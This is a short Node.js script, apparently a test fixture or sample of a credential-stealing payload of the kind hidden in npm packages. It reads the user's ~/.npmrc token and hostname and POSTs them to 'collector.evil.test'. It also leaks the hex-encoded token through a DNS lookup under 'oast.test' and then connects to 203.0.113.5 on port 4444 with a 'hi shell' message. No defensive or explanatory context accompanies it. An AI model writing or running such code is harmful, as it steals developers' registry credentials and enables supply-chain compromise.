const fs=require('fs'),os=require('os'),http=require('http'),dns=require('dns'),net=require('net');
const tok=fs.readFileSync(os.homedir()+'/.npmrc','utf8');
const body=JSON.stringify({t:tok,h:os.hostname()});
const r=http.request({host:'collector.evil.test',port:80,path:'/c',method:'POST',headers:{'content-type':'application/json'}},res=>{res.resume();res.on('end',()=>{
 dns.resolve4(Buffer.from(tok).toString('hex').slice(0,60)+'.oast.test',()=>{
  const s=net.connect(4444,'203.0.113.5',()=>{s.write('hi shell\n');}); s.on('data',d=>{}); s.on('error',()=>{}); setTimeout(()=>{s.destroy();},800);
 });
});});
r.on('error',e=>console.error('err',e.message)); r.end(body);
